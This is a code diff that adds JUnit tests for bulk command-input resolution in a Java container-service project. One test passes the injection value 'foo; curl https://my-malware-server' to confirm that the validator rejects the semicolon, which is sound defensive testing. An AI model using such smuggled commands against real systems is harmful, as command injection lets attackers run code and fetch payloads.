@@ -1,6 +1,7 @@
 package org.nrg.containers;
 
 import com.fasterxml.jackson.databind.ObjectMapper;
+import com.google.common.collect.Lists;
 import com.google.common.collect.Maps;
 import com.google.common.collect.Sets;
 import com.jayway.jsonpath.Configuration;
@@ -21,12 +22,14 @@ import org.nrg.config.services.ConfigService;
 import org.nrg.containers.config.IntegrationTestConfig;
 import org.nrg.containers.exceptions.CommandResolutionException;
 import org.nrg.containers.exceptions.IllegalInputException;
+import org.nrg.containers.model.command.auto.BulkResolutionResult;
 import org.nrg.containers.model.command.auto.Command;
 import org.nrg.containers.model.command.auto.Command.CommandInput;
 import org.nrg.containers.model.command.auto.Command.CommandWrapper;
 import org.nrg.containers.model.command.auto.Command.CommandWrapperExternalInput;
 import org.nrg.containers.model.command.auto.Command.ConfiguredCommand;
 import org.nrg.containers.model.command.auto.ResolvedCommand;
+import org.nrg.containers.model.command.auto.ResolvedCommand.PartiallyResolvedCommand;
 import org.nrg.containers.model.command.auto.ResolvedCommandMount;
 import org.nrg.containers.model.command.auto.ResolvedInputTreeNode;
 import org.nrg.containers.model.command.auto.ResolvedInputValue;
@@ -59,8 +62,10 @@ import java.io.File;
 import java.nio.file.Paths;
 import java.util.Collections;
 import java.util.HashSet;
+import java.util.List;
 import java.util.Map;
 import java.util.Set;
+import java.util.concurrent.TimeUnit;
 
 import static org.hamcrest.Matchers.contains;
 import static org.hamcrest.Matchers.containsInAnyOrder;
@@ -552,6 +557,92 @@ public class CommandResolutionTest {
         }
     }
 
+    @Test
+    public void testResolveAll() throws Exception {
+        final String commandJsonFile = resourceDir + "/params-command.json";
+        final Command tempCommand = mapper.readValue(new File(commandJsonFile), Command.class);
+        final Command command = commandService.create(tempCommand);
+
+        CommandWrapper blankWrapper = null;
+        for (final CommandWrapper commandWrapper : command.xnatCommandWrappers()) {
+            if (commandWrapper.name().equals("blank-wrapper")) {
+                blankWrapper = commandWrapper;
+            }
+        }
+        assertThat(blankWrapper, is(not(nullValue())));
+
+        final Map<String, String> filledRuntimeValues1 = Maps.newHashMap();
+        filledRuntimeValues1.put("REQUIRED_WITH_FLAG", "foo");
+        filledRuntimeValues1.put("REQUIRED_NO_FLAG", "bar");
+        final Map<String, String> blankRuntimeValues = Maps.newHashMap();
+        final Map<String, String> filledRuntimeValues2 = Maps.newHashMap();
+        filledRuntimeValues2.put("REQUIRED_WITH_FLAG", "baz");
+        filledRuntimeValues2.put("REQUIRED_NO_FLAG", "qux");
+
+        final List<BulkResolutionResult<ResolvedCommand>> results =
+                commandResolutionService.resolveAll(commandService.getAndConfigure(blankWrapper.id()),
+                        Lists.newArrayList(filledRuntimeValues1, blankRuntimeValues, filledRuntimeValues2), mockUser);
+        assertThat(results, hasSize(3));
+
+        assertThat(results.get(0).succeeded(), is(true));
+        assertThat(results.get(0).resolved().commandLine(), is("echo bar --flag foo "));
+
+        assertThat(results.get(1).succeeded(), is(false));
+        assertThat(results.get(1).index(), is(1));
+        assertThat(results.get(1).errorMessage(), is("Missing values for required inputs: REQUIRED_NO_FLAG, REQUIRED_WITH_FLAG."));
+
+        assertThat(results.get(2).succeeded(), is(true));
+        assertThat(results.get(2).resolved().commandLine(), is("echo qux --flag baz "));
+    }
+
+    @Test
+    public void testPreResolveAllRecordsEachFailure() throws Exception {
+        final String commandJsonFile = resourceDir + "/illegal-args-command.json";
+        final Command tempCommand = mapper.readValue(new File(commandJsonFile), Command.class);
+        final Command command = commandService.create(tempCommand);
+        final CommandWrapper identityWrapper = command.xnatCommandWrappers().get(0);
+
+        final Map<String, String> legalValues = Collections.singletonMap("anything", "foo");
+        final Map<String, String> illegalValues = Collections.singletonMap("anything", "foo; curl https://my-malware-server");
+
+        final List<BulkResolutionResult<PartiallyResolvedCommand>> results =
+                commandResolutionService.preResolveAll(commandService.getAndConfigure(identityWrapper.id()),
+                        Lists.newArrayList(legalValues, illegalValues, legalValues), mockUser, 2, 0L, TimeUnit.SECONDS);
+        assertThat(results, hasSize(3));
+
+        assertThat(results.get(0).succeeded(), is(true));
+        assertThat(results.get(1).succeeded(), is(false));
+        assertThat(results.get(1).index(), is(1));
+        assertThat(results.get(1).inputValues(), is(illegalValues));
+        assertThat(results.get(1).errorMessage(), is("Input \"anything\" has a value containing illegal string \";\"."));
+        assertThat(results.get(2).succeeded(), is(true));
+    }
+
+    @Test
+    public void testPreResolveAllReportsItemsNotDoneInTimeAsFailures() throws Exception {
+        final String commandJsonFile = resourceDir + "/illegal-args-command.json";
+        final Command tempCommand = mapper.readValue(new File(commandJsonFile), Command.class);
+        final Command command = commandService.create(tempCommand);
+        final CommandWrapper identityWrapper = command.xnatCommandWrappers().get(0);
+
+        // One worker cannot resolve this many items in a millisecond
+        final int numItems = 1000;
+        final List<Map<String, String>> inputValuesList = Lists.newArrayList();
+        for (int i = 0; i < numItems; i++) {
+            inputValuesList.add(Collections.singletonMap("anything", "foo" + i));
+        }
+
+        final List<BulkResolutionResult<PartiallyResolvedCommand>> results =
+                commandResolutionService.preResolveAll(commandService.getAndConfigure(identityWrapper.id()),
+                        inputValuesList, mockUser, 1, 1L, TimeUnit.MILLISECONDS);
+        assertThat(results, hasSize(numItems));
+
+        final BulkResolutionResult<PartiallyResolvedCommand> last = results.get(numItems - 1);
+        assertThat(last.succeeded(), is(false));
+        assertThat(last.index(), is(numItems - 1));
+        assertThat(last.errorMessage(), is("Timed out waiting for the command to resolve."));
+    }
+
     @Test
     public void testIllegalArgs() throws Exception {
         final String commandJsonFile = resourceDir + "/illegal-args-command.json";